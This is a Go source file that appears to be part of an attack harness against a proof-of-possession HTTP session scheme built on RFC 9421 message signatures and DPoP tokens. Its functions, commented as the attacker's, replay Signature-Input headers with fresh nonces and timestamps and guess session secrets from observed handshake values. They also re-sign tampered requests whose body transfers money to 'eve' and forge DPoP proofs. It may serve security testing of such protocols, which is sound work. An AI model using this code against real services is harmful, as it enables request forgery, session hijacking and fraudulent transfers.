package main

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hkdf"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"math/big"
	"regexp"
	"strings"
	"time"
)

var b64 = base64.RawURLEncoding

// signatureBase makes the base of RFC 9421, section 2.5, for a Signature-Input with one member.
func signatureBase(r *request, origin, input string) string {
	_, params, _ := strings.Cut(input, "=")
	list, _, _ := strings.Cut(strings.TrimPrefix(params, "("), ")")
	var b strings.Builder
	for _, quoted := range strings.Fields(list) {
		value, name := "", strings.Trim(quoted, `"`)
		path, query, _ := strings.Cut(r.target, "?")
		switch name {
		case "@method":
			value = r.method
		case "@target-uri":
			value = origin + r.target
		case "@path":
			value = path
		case "@query":
			value = "?" + query
		default:
			value = r.field(name)
		}
		fmt.Fprintf(&b, "%s: %s\n", quoted, value)
	}
	return b.String() + `"@signature-params": ` + params
}

var (
	nonceParam   = regexp.MustCompile(`;nonce="[^"]*"`)
	createdParam = regexp.MustCompile(`;created=\d+`)
)

// remade is a Signature-Input that says it was made now, with another nonce.
func remade(input, nonce string) string {
	input = nonceParam.ReplaceAllLiteralString(input, `;nonce="`+nonce+`"`)
	return createdParam.ReplaceAllLiteralString(input, fmt.Sprint(";created=", time.Now().Unix()))
}

// maced is r as a session's request with a body of the attacker's, under a secret and a counter.
func maced(r request, origin string, secret []byte, counter int) request {
	if len(r.body) > 0 && r.field("Content-Digest") != "" {
		r.body = []byte(`{"to":"eve","amount":10,"currency":"EUR"}`)
		sum := sha256.Sum256(r.body)
		r = r.with("Content-Digest", "sha-256=:"+base64.StdEncoding.EncodeToString(sum[:])+":")
	}
	input := remade(r.field("Signature-Input"), fmt.Sprint(counter))
	r = r.with("Signature-Input", input)
	mac := hmac.New(sha256.New, secret)
	mac.Write([]byte(signatureBase(&r, origin, input)))
	label, _, _ := strings.Cut(input, "=")
	return r.with("Signature", label+"=:"+base64.StdEncoding.EncodeToString(mac.Sum(nil))+":")
}

// octets finds the byte sequences of a structured field, by what stands before them.
func octets(field string) map[string][]byte {
	out := map[string][]byte{}
	for _, m := range regexp.MustCompile(`([a-z0-9-]+)=:([A-Za-z0-9+/=]*):`).FindAllStringSubmatch(field, -1) {
		if b, err := base64.StdEncoding.DecodeString(m[2]); err == nil {
			out[m[1]] = b
		}
	}
	return out
}

// guesses are secrets that a session might have, by somebody who saw it begin: all that travelled, hashes of it, and the
// key schedule with all its public inputs and a shared secret that is one of the things that travelled.
func (l *loot) guesses(begun *exchange) [][]byte {
	offer, answer := octets(begun.field("PoP-Session-Offer")), octets(get(begun.answer, "PoP-Session"))
	mine, theirs, id := offer["p256"], answer["share"], answer["id"]
	out := [][]byte{answer["ticket"], mine, theirs, id, make([]byte, 32), []byte(b64.EncodeToString(answer["ticket"]))}
	for _, pair := range [][]byte{slicesOf(mine, theirs), slicesOf(theirs, mine), slicesOf(mine, id), slicesOf(theirs, id)} {
		sum := sha256.Sum256(pair)
		out = append(out, sum[:])
	}
	_, token, _ := strings.Cut(begun.field("Authorization"), " ")
	hash := sha256.Sum256([]byte(token))
	ctx := []byte("request\x00")
	for _, part := range [][]byte{thumbprint(token), hash[:], []byte("http://" + l.Servers["gateway"]), mine, theirs, id} {
		ctx = append(binary.BigEndian.AppendUint16(ctx, uint16(len(part))), part...)
	}
	for _, z := range [][]byte{mine, theirs, half(mine), half(theirs), make([]byte, 32), hash[:], id} {
		prk, err := hkdf.Extract(sha256.New, z, []byte("pop-session-v1"))
		if err != nil {
			continue
		}
		if key, err := hkdf.Expand(sha256.New, prk, string(ctx), 32); err == nil {
			out = append(out, key)
		}
	}
	return out
}

func slicesOf(parts ...[]byte) []byte { return bytes.Join(parts, nil) }

// half is the x coordinate of an uncompressed point.
func half(point []byte) []byte {
	if len(point) != 65 {
		return point
	}
	return point[1:33]
}

// thumbprint reads cnf.jkt from a token that it can't verify.
func thumbprint(token string) []byte {
	var claims struct{ Cnf struct{ Jkt string } }
	json.Unmarshal(payload(token), &claims)
	jkt, _ := b64.DecodeString(claims.Cnf.Jkt)
	return jkt
}

// payload decodes the second part of a JWT, or returns nil.
func payload(jwt string) []byte {
	parts := strings.Split(jwt, ".")
	if len(parts) != 3 {
		return nil
	}
	b, _ := b64.DecodeString(parts[1])
	return b
}

// key is the attacker's own, or the one that it was given.
func (l *loot) key() (*ecdsa.PrivateKey, error) {
	if l.Key == nil {
		return ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	}
	var jwk struct{ D string }
	if err := json.Unmarshal(l.Key, &jwk); err != nil {
		return nil, err
	}
	d, err := b64.DecodeString(jwk.D)
	if err != nil {
		return nil, err
	}
	return ecdsa.ParseRawPrivateKey(elliptic.P256(), d)
}

// proof makes a DPoP proof (RFC 9449, section 4.2).
func proof(key *ecdsa.PrivateKey, method, uri, token, nonce string) (string, error) {
	point, err := key.PublicKey.Bytes()
	if err != nil {
		return "", err
	}
	uri, _, _ = strings.Cut(uri, "?")
	claims := map[string]any{"jti": rand.Text(), "htm": method, "htu": uri, "iat": time.Now().Unix()}
	if token != "" {
		hash := sha256.Sum256([]byte(token))
		claims["ath"] = b64.EncodeToString(hash[:])
	}
	if nonce != "" {
		claims["nonce"] = nonce
	}
	head, err := json.Marshal(map[string]any{"typ": "dpop+jwt", "alg": "ES256", "jwk": map[string]string{
		"kty": "EC", "crv": "P-256", "x": b64.EncodeToString(point[1:33]), "y": b64.EncodeToString(point[33:]),
	}})
	if err != nil {
		return "", err
	}
	body, err := json.Marshal(claims)
	if err != nil {
		return "", err
	}
	text := b64.EncodeToString(head) + "." + b64.EncodeToString(body)
	sum := sha256.Sum256([]byte(text))
	r, s, err := ecdsa.Sign(rand.Reader, key, sum[:])
	if err != nil {
		return "", err
	}
	return text + "." + b64.EncodeToString(append(fixed(r), fixed(s)...)), nil
}

func fixed(n *big.Int) []byte { return n.FillBytes(make([]byte, 32)) }
